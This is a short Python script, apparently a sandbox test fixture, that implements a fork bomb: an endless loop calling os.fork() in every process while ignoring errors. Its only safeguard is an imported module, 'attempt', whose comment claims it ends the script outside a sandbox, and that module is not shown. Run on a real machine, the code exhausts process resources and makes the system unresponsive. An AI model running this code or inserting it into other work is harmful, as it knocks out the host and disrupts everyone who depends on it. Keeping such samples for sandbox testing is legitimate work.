"""Forks without end, in every process."""

import os

import attempt  # noqa: F401 - ends this script outside a sandbox

while True:
    try:
        os.fork()
    except OSError:
        pass
